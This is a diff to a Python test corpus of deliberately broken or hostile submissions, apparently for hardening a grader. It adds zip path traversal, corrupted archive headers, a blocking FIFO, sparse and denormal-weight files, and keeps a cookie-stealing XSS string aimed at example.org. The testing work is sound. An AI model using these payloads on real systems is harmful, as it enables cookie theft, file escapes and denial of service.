@@ -136,13 +136,12 @@ def run_field(**values: object) -> Callable[[Path], None]:
     return lambda folder: edit_record(folder / f"{TARGET}.json", lambda record: record["run"].update(values))
 
 
-def zipped(fill: Callable[[zipfile.ZipFile], None]) -> Callable[[Path], None]:
+def zipped(fill: Callable[[zipfile.ZipFile], None], renamed: Callable[[str], str] = str) -> Callable[[Path], None]:
     """The honest submission as NAME.zip with more in it, in place of the folder."""
     def spoil(folder: Path) -> None:
-        with zipfile.ZipFile(folder.with_name(folder.name + ".zip"), "w", zipfile.ZIP_DEFLATED,
-                             compresslevel=1) as archive:
+        with zipfile.ZipFile(folder.with_name(folder.name + ".zip"), "w", zipfile.ZIP_DEFLATED) as archive:
             for path in sorted(folder.iterdir()):
-                archive.write(path, path.name)
+                archive.write(path, renamed(path.name), zipfile.ZIP_STORED)  # weights hardly become smaller
             fill(archive)
         for path in folder.iterdir():
             path.unlink()
@@ -236,6 +235,64 @@ def overlapping(folder: Path) -> None:
     edit_record(folder / f"{TARGET}.json", lambda record: None)
 
 
+def denormal(folder: Path) -> None:
+    """Weights so small that processors compute with them a hundred times more slowly."""
+    path = folder / f"{TARGET}.safetensors"
+    save_file({name: value * 1e-38 if "conv" in name else value for name, value in load_file(path).items()}, path)
+    edit_record(path.with_suffix(".json"), lambda record: None)
+
+
+def twice_one_tensor(folder: Path) -> None:
+    """A safetensors header that names a tensor twice."""
+    one = b'"encoder.latent.bias":{"dtype":"F32","shape":[1],"data_offsets":[%d,%d]}'
+    header = b"{" + one % (0, 4) + b"," + one % (4, 8) + b"}"
+    (folder / f"{TARGET}.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + bytes(8))
+    edit_record(folder / f"{TARGET}.json", lambda record: None)
+
+
+def central(change: Callable[[bytearray, int], None]) -> Callable[[bytes], bytes]:
+    """Change every entry of an archive's list, given the bytes and where the entry begins."""
+    def changed(data: bytes) -> bytes:
+        out, place = bytearray(data), data.find(b"PK\1\2")
+        while place >= 0:
+            change(out, place)
+            place = data.find(b"PK\1\2", place + 4)
+        return bytes(out)
+    return changed
+
+
+def spoilt_record(data: bytes) -> bytes:
+    """An archive in which a part of a record has become zeros."""
+    at = data.find(f"{TARGET}.json".encode()) + 1000
+    return data[:at] + bytes(1000) + data[at + 1000:]
+
+
+def macintosh(archive: zipfile.ZipFile) -> None:
+    """What macOS adds to an archive."""
+    for name in archive.namelist():
+        archive.writestr(f"__MACOSX/._{name}", b"\0\5\x16\7")
+        archive.writestr(f"._{name}", b"\0\5\x16\7")
+
+
+def sparse(folder: Path) -> None:
+    """A file of a terabyte that takes no room."""
+    with (folder / "big.json").open("wb") as file:
+        file.truncate(10**12)
+
+
+def pipe_as_archive(folder: Path) -> None:
+    """A pipe where an archive is expected: who opens it to read waits forever."""
+    only()(folder)
+    folder.rmdir()
+    os.mkfifo(folder.with_name(folder.name + ".zip"))
+
+
+def linked_student(folder: Path) -> None:
+    only()(folder)
+    folder.rmdir()
+    folder.symlink_to(folder.with_name("honest"))
+
+
 def pipe(folder: Path) -> None:
     (folder / f"{TARGET}.json").unlink()
     os.mkfifo(folder / f"{TARGET}.json")
@@ -252,9 +309,9 @@ def only(*names: str) -> Callable[[Path], None]:
 
 def nameless(folder: Path) -> None:
     """An entry whose name is the character that ends names."""
-    zipped(lambda archive: archive.writestr("~", "{}"))(folder)
+    zipped(lambda archive: archive.writestr("~nameless", "{}"))(folder)
     path = folder.with_name(folder.name + ".zip")
-    path.write_bytes(path.read_bytes().replace(b"~", b"\0"))
+    path.write_bytes(path.read_bytes().replace(b"~nameless", b"\0nameless"))
 
 
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script><img src=x onerror=alert(1)>"
@@ -317,6 +374,21 @@ CORPUS: dict[str, Callable[[Path], None]] = {
     "grades.csv": added("x.json", b"{}"), "class.html": added("x.json", b"{}"),
     "other-task": run_field(task="1.2.3"),
     "git-history": lambda folder: [added(f".git/{i}")(folder) for i in range(600)],
+    "denormals": denormal, "tensor-twice": twice_one_tensor, "thousands-of-layers": field(widths=[1] * 50_000),
+    "resnet-as-conv": field(encoder="resnet18", widths=[64, 128, 256, 512], pooling="mean"),
+    "future-schema": text(lambda t: t.replace('"schema": 1', '"schema": 2', 1)), "sparse": sparse,
+    "relabelled": run_field(task="1.2.3", method="simclr", argv=["_main.py"]),
+    "empty-folders": lambda folder: [(folder / f"e{i}").mkdir() for i in range(2000)],
+    "same-in-two-forms": lambda folder: [added(f"{name}.json", b"{}")(folder) for name in ("\xe9", "e\u0301")],
+    "pipe-as-zip": pipe_as_archive, "linked-student": linked_student,
+    "zip-windows": zipped(lambda archive: None, lambda name: f"results\\{name}"), "zip-macos": zipped(macintosh),
+    "zip-in-zip": zipped(lambda archive: archive.writestr("results.zip", b"PK")),
+    "zip-encrypted": zip_bytes(central(lambda data, at: data.__setitem__(at + 8, data[at + 8] | 1))),
+    "zip-wrong-sums": zip_bytes(central(lambda data, at: data.__setitem__(slice(at + 16, at + 20), b"\1\2\3\4"))),
+    "zip-false-sizes": zip_bytes(central(lambda data, at: data.__setitem__(slice(at + 24, at + 28), b"\n\0\0\0"))),
+    "zip-long-list": zipped(lambda archive: [archive.writestr("x" * 60_000 + f"{i}.txt", "") for i in range(40)]),
+    "zip-windows-slip": with_entry("..\\..\\escaped.json"),
+    "a\nb": added("=x.json", b"{}"), "a b": added("=x.json", b"{}"),
     "zip-null-name": with_entry("a\x01b.json"),
-    "zip-flipped": zip_bytes(lambda data: data[:3000] + bytes(1000) + data[4000:]),
+    "zip-flipped": zip_bytes(spoilt_record),
 }
